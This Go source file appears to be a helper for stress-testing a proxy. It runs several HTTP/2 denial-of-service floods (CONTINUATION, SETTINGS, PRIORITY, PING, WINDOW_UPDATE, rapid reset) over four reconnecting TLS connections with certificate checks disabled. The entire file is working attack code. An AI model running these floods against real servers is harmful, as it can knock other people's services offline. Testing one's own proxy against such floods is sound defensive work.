package main

import (
	"bytes"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"os"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// connections is how many flood at once.
const connections = 4

// kinds are the floods.
func kinds() []string {
	return []string{"continuation", "settings", "priority", "ping", "window-update", "reset", "reset-reconnect"}
}

// flood floods with several connections until it is ended. A connection that is
// closed is opened again.
func flood(ctx context.Context, kind, to, host string) error {
	var wg sync.WaitGroup
	var once sync.Once
	begun := func() { once.Do(func() { fmt.Fprintln(os.Stdout, "floods") }) }
	for range connections {
		wg.Go(func() {
			for ctx.Err() == nil {
				_ = floodOnce(ctx, kind, to, host, begun) // how it was ended is the proxy's matter
			}
		})
	}
	wg.Wait()
	return nil
}

// floodOnce floods one connection until it ends.
func floodOnce(ctx context.Context, kind, to, host string, begun func()) error {
	d := tls.Dialer{NetDialer: &net.Dialer{}, Config: &tls.Config{ServerName: host, NextProtos: []string{"h2"}, InsecureSkipVerify: true}}
	c, err := d.DialContext(ctx, "tcp", to)
	if err != nil {
		begun()
		return err
	}
	defer c.Close()
	stop := context.AfterFunc(ctx, func() { _ = c.SetDeadline(time.Now()) })
	defer stop()
	read := make(chan struct{})
	go func() {
		defer close(read)
		_, _ = io.Copy(io.Discard, c) // ends with the connection
	}()
	defer func() { c.Close(); <-read }()
	if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
		return err
	}
	var b bytes.Buffer
	f := http2.NewFramer(&b, nil)
	if err := f.WriteSettings(); err != nil {
		return err
	}
	var head bytes.Buffer
	enc := hpack.NewEncoder(&head)
	request := func(id uint32, whole bool) error {
		head.Reset()
		for _, h := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", host}, {":path", "/"}} {
			if err := enc.WriteField(hpack.HeaderField{Name: h[0], Value: h[1]}); err != nil {
				return err
			}
		}
		return f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: head.Bytes(), EndStream: true, EndHeaders: whole})
	}
	if kind == "continuation" {
		if err := request(1, false); err != nil {
			return err
		}
	}
	begun()
	for i := uint32(0); ; i++ {
		switch kind {
		case "continuation":
			err = f.WriteContinuation(1, false, nil)
		case "settings":
			err = f.WriteSettings()
		case "priority":
			err = f.WritePriority(2*i+1, http2.PriorityParam{Weight: 1})
		case "ping":
			err = f.WritePing(false, [8]byte{})
		case "window-update":
			err = f.WriteWindowUpdate(0, 1)
		case "reset", "reset-reconnect":
			if err = request(2*i+1, true); err == nil {
				err = f.WriteRSTStream(2*i+1, http2.ErrCodeCancel)
			}
			if kind == "reset-reconnect" && i == 50 {
				_, err = c.Write(b.Bytes())
				return err
			}
		}
		if err != nil {
			return err
		}
		if b.Len() >= 16<<10 {
			if _, err := c.Write(b.Bytes()); err != nil {
				return err
			}
			b.Reset()
		}
	}
}
